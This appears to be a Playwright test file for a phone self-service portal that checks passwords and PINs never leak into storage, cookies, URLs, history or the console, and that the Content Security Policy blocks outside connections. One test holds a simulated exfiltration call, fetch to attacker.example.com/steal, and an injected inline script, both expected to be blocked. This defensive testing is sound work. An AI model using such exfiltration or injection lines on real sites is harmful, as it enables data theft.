/**
 * Credential hygiene: after a session (sign in, visit pages, change something, change the secrets,
 * reload, sign out) no password or PIN is in storage, cookies, IndexedDB, a requested URL, a history
 * entry or the console; the CSP of the build allows scripts from self only and connections to the configured API
 * origins only; and sign-out leaves no personal data behind.
 */
import { readFileSync } from 'node:fs'
import type { BrowserContext, Page } from '@playwright/test'
import { test, expect, type MockControl } from '../support/fixtures.ts'
import { goTo, NAV_PAGES, openSignedIn, signIn, signInAfterReload, status } from '../support/session.ts'
import { profile } from '../pages/profile.ts'
import { callForwarding } from '../pages/call-forwarding.ts'
import { doNotDisturb } from '../pages/do-not-disturb.ts'
import { speedDials } from '../pages/speed-dials.ts'
import { asClient } from '../support/mock-api.ts'
import { singleNumberReach } from '../pages/single-number-reach.ts'
import { pinAndPassword } from '../pages/pin-and-password.ts'

/** Values nobody else uses, so finding one anywhere is a leak and not a coincidence. */
const PASSWORD = 'Qx7-hygiene-Pa55word'
const NEW_PASSWORD = 'Zebra-Hygiene-9431-new'
const PHONE_PIN = '739146'
const VOICEMAIL_PIN = '582047'

/** Every form a secret could take on the way out. */
function encodings(secret: string, userId = 'demo'): string[] {
  const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64')
  return [secret, encodeURIComponent(secret), b64(secret), b64(`${userId}:${secret}`)]
}

/** Records every history entry the app writes (pushState/replaceState), with its state object. */
async function recordHistory(page: Page): Promise<Array<{ url: string; state: string }>> {
  const entries: Array<{ url: string; state: string }> = []
  await page.exposeBinding('__recordHistory', (_source, url: string, state: string) => {
    entries.push({ url, state })
  })
  await page.addInitScript(() => {
    const record = (window as unknown as { __recordHistory: (u: string, s: string) => void }).__recordHistory
    for (const method of ['pushState', 'replaceState'] as const) {
      const original = history[method].bind(history)
      history[method] = (state: unknown, unused: string, url?: string | URL | null) => {
        original(state, unused, url)
        void record(location.href, JSON.stringify(state) ?? '')
      }
    }
  })
  return entries
}

/** localStorage, sessionStorage and every IndexedDB record, as one text. */
async function browserStorage(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const dump: Record<string, unknown> = {
      localStorage: { ...localStorage },
      sessionStorage: { ...sessionStorage },
    }
    const dbs = (await indexedDB.databases?.()) ?? []
    for (const info of dbs) {
      if (!info.name) continue
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const open = indexedDB.open(info.name!)
        open.onsuccess = () => resolve(open.result)
        open.onerror = () => reject(open.error)
      })
      for (const store of db.objectStoreNames) {
        dump[`idb:${info.name}:${store}`] = await new Promise((resolve) => {
          const all = db.transaction(store).objectStore(store).getAll()
          all.onsuccess = () => resolve(all.result)
          all.onerror = () => resolve(String(all.error))
        })
      }
      db.close()
    }
    return JSON.stringify(dump)
  })
}

function expectFree(where: string, haystack: string, secrets: string[]) {
  for (const secret of secrets) expect(haystack, `${where} holds a secret`).not.toContain(secret)
}

/**
 * Watches one session for secrets: every requested URL (and which origins got credentials), the
 * console and page errors, and every history entry the app writes. `check` then looks at storage,
 * cookies and IndexedDB while signed in, signs out, and looks again, with the recorded URLs, history,
 * console and the DOM after sign-out.
 */
async function watchSession(page: Page, context: BrowserContext, mockUrl: string, secrets: string[]) {
  const urls: string[] = []
  const authorizedOrigins = new Set<string>()
  page.on('request', (r) => {
    urls.push(r.url())
    if (r.headers()['authorization']) authorizedOrigins.add(new URL(r.url()).origin)
  })
  const consoleLines: string[] = []
  page.on('console', (m) => consoleLines.push(`${m.type()}: ${m.text()}`))
  page.on('pageerror', (e) => consoleLines.push(`pageerror: ${e.message}`))
  const history = await recordHistory(page)

  return {
    async check() {
      // While signed in: nothing at rest holds a secret.
      expectFree('storage (signed in)', await browserStorage(page), secrets)
      expectFree('cookies (signed in)', JSON.stringify(await context.cookies()), secrets)

      await page.getByRole('button', { name: 'Sign out' }).click()
      await expect(page.getByRole('heading', { level: 1, name: /sign in/i })).toBeVisible()

      expectFree('storage', await browserStorage(page), secrets)
      // credentials: 'omit' — the mock's JSESSIONID is never stored.
      expect(await context.cookies()).toEqual([])
      // The one documented exception: CUPI takes the new voicemail PIN as a query parameter of its PUT.
      const withPin = urls.filter((u) => u.includes(VOICEMAIL_PIN))
      expect(withPin.map((u) => new URL(u).pathname)).toEqual(
        withPin.length ? ['/vmrest/user/credential/pin'] : [],
      )
      expectFree('requested URLs', urls.filter((u) => !withPin.includes(u)).join('\n'), secrets)
      expectFree('history entries', JSON.stringify(history), secrets)
      expect(history.length, 'history was recorded').toBeGreaterThan(1)
      expectFree('console', consoleLines.join('\n'), secrets)
      expectFree('DOM after sign-out', await page.content(), secrets)
      // Credentials only ever went to the API server.
      expect([...authorizedOrigins]).toEqual([mockUrl])
    },
  }
}

/** Sets demo's password on the server to a distinctive one before the session. */
const setPassword = (mock: MockControl, password: string) =>
  asClient(
    mock,
    'demo',
    'PUT',
    '/cucm-uds/user/demo/credentials',
    `<credentials><credential type="password">${password}</credential></credentials>`,
    { status: 204 },
  )

const saved = (page: Page, text: string) => expect(status(page, text).first()).toBeVisible()

// A whole session is four sessions here (each short, each checked the same way): changes on the
// settings pages (two sessions), the three secrets changed, and a reload that asks for the password.
test.describe('credential hygiene: no password or PIN in storage, cookies, IndexedDB, URLs, history or the console after', () => {
  test('a change on Profile, Call forwarding and Do not disturb', async ({ page, context, mock }) => {
    await setPassword(mock, PASSWORD)
    const session = await watchSession(page, context, mock.url, encodings(PASSWORD))
    await signIn(page, 'demo', PASSWORD)
    await profile(page).displayName.fill('Dana Hygiene')
    await profile(page).save()
    await saved(page, 'Profile saved')
    await goTo(page, 'Call forwarding')
    await callForwarding(page).radio('Forward to voicemail').check()
    await callForwarding(page).save()
    await saved(page, 'Forwarding saved.')
    await goTo(page, 'Do not disturb')
    await doNotDisturb(page).switch.click()
    await saved(page, 'Do not disturb is on')
    await session.check()
  })

  test('a change on Speed dials and Single Number Reach', async ({ page, context, mock }) => {
    await setPassword(mock, PASSWORD)
    const session = await watchSession(page, context, mock.url, encodings(PASSWORD))
    await openSignedIn(page, 'Speed dials', 'demo', { password: PASSWORD })
    await speedDials(page).moveUp('Conference bridge').click()
    await speedDials(page).save()
    await saved(page, 'Speed dials saved')
    await goTo(page, 'Single Number Reach')
    await singleNumberReach(page).ringToggle('Mobile').click()
    await saved(page, 'Mobile won’t ring')
    await session.check()
  })

  test('changing both PINs and the password', async ({ page, context, mock }) => {
    await setPassword(mock, PASSWORD)
    const secrets = [...encodings(PASSWORD), ...encodings(NEW_PASSWORD), PHONE_PIN, VOICEMAIL_PIN]
    const session = await watchSession(page, context, mock.url, secrets)
    await openSignedIn(page, 'PIN and password', 'demo', { password: PASSWORD })
    for (const [label, value, button, done] of [
      ['phone PIN', PHONE_PIN, 'Change phone PIN', 'Phone PIN changed'],
      ['voicemail PIN', VOICEMAIL_PIN, 'Change voicemail PIN', 'Voicemail PIN changed'],
    ] as const) {
      await pinAndPassword(page).fillNew(label, value)
      await page.getByRole('button', { name: button }).click()
      await saved(page, done)
    }
    await pinAndPassword(page).fillNew('password', NEW_PASSWORD)
    await page.getByRole('button', { name: 'Change portal password' }).click()
    await saved(page, 'Portal password changed')
    expect([
      await mock.checkSecret('demo', 'password', NEW_PASSWORD),
      await mock.checkSecret('demo', 'pin', PHONE_PIN),
      await mock.checkSecret('demo', 'voicemailPin', VOICEMAIL_PIN),
    ]).toEqual([true, true, true])
    // After the change, every page still works with the new password held in memory only.
    await goTo(page, 'Profile')
    await session.check()
  })

  test('a visit to every page and a reload (the password is asked for again)', async ({
    page,
    context,
    mock,
  }) => {
    await setPassword(mock, PASSWORD)
    const session = await watchSession(page, context, mock.url, encodings(PASSWORD))
    await signIn(page, 'demo', PASSWORD)
    for (const name of NAV_PAGES) await goTo(page, name)
    await page.reload()
    await signInAfterReload(page, 'PIN and password', PASSWORD)
    await goTo(page, 'Profile')
    await session.check()
  })
})

test.describe('credential hygiene', () => {
  test('sign-out leaves no personal data in the DOM, and the cache is gone: /profile asks to sign in', async ({
    page,
  }) => {
    const personal = [
      'Dana',
      'Morgan',
      'demo@example.com',
      '1001',
      '1002',
      '+13125550177',
      'Priya Raman',
      'Customer Success',
      'Reception',
      'Conference bridge',
      'SEP0A1B2C3DA001',
    ]
    await signIn(page, 'demo')
    for (const name of NAV_PAGES) await goTo(page, name)
    await goTo(page, 'Profile')
    await expect(page.getByRole('main')).toContainText('Dana Morgan')

    await page.getByRole('button', { name: 'Sign out' }).click()
    await expect(page.getByRole('heading', { level: 1, name: /sign in/i })).toBeVisible()
    const afterSignOut = await page.locator('body').innerText()
    for (const value of personal)
      expect(afterSignOut, `DOM after sign-out shows ${value}`).not.toContain(value)

    // In-app navigation back to a signed-in page (no reload, so any cache would still be in memory).
    await page.goBack()
    await expect(page.getByRole('heading', { level: 1, name: /sign in/i })).toBeVisible()
    await page.evaluate(() => {
      history.pushState(null, '', '/profile')
      dispatchEvent(new PopStateEvent('popstate'))
    })
    await expect(page.getByLabel('Password', { exact: true })).toBeVisible()
    const text = await page.locator('body').innerText()
    for (const value of personal) expect(text, `/profile after sign-out shows ${value}`).not.toContain(value)
    expect(await page.getByLabel('Password', { exact: true }).inputValue()).toBe('')
  })
})

test.describe('content security policy', () => {
  const html = readFileSync(new URL('../../dist/index.html', import.meta.url), 'utf8')
  const config = JSON.parse(readFileSync(new URL('../../public/config.json', import.meta.url), 'utf8')) as {
    udsBaseUrl: string
    cupiBaseUrl?: string | null
  }

  function directives(policy: string): Map<string, string[]> {
    return new Map(
      policy
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0])
        .map(([name, ...values]) => [name!, values]),
    )
  }

  test('the built index.html allows scripts from self only and connections to the configured API origins only', () => {
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)
    expect(meta, 'a CSP meta tag').not.toBeNull()
    const csp = directives(meta![1]!)
    expect(csp.get('script-src')).toEqual(["'self'"])
    const apiOrigins = [config.udsBaseUrl, config.cupiBaseUrl].filter(Boolean).map((u) => new URL(u!).origin)
    expect(new Set(csp.get('connect-src'))).toEqual(new Set(["'self'", ...apiOrigins]))
    expect(csp.get('object-src')).toEqual(["'none'"])
    expect(csp.get('base-uri')).toEqual(["'none'"])
    expect(csp.get('default-src')).toEqual(["'self'"])
    // No inline script for 'self' to have to allow.
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/)
    expect(html).not.toMatch(/\son[a-z]+=/i)
  })

  test('in the browser the policy holds: no other origin, no injected inline script', async ({ page }) => {
    const violations: string[] = []
    page.on('console', (m) => {
      if (/Content Security Policy/i.test(m.text())) violations.push(m.text())
    })
    await page.goto('/sign-in')
    const outcome = await page.evaluate(async () => {
      // The browser reports each blocked attempt as a violation event: wait for both, not for time.
      const directives: string[] = []
      const bothReported = new Promise<void>((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => {
          directives.push(e.effectiveDirective)
          if (directives.length === 2) resolve()
        }),
      )
      let fetched = 'blocked'
      try {
        await fetch('https://attacker.example.com/steal', { mode: 'no-cors' })
        fetched = 'sent'
      } catch {
        // blocked by connect-src
      }
      const script = document.createElement('script')
      script.textContent = 'window.__injected = true'
      document.body.appendChild(script)
      await bothReported
      return {
        fetched,
        injected: (window as unknown as { __injected?: boolean }).__injected === true,
        directives: directives.sort(),
      }
    })
    expect(outcome).toEqual({
      fetched: 'blocked',
      injected: false,
      directives: ['connect-src', 'script-src-elem'],
    })
    await expect
      .poll(() => violations.length, { message: 'both reported in the console' })
      .toBeGreaterThanOrEqual(2)
  })
})
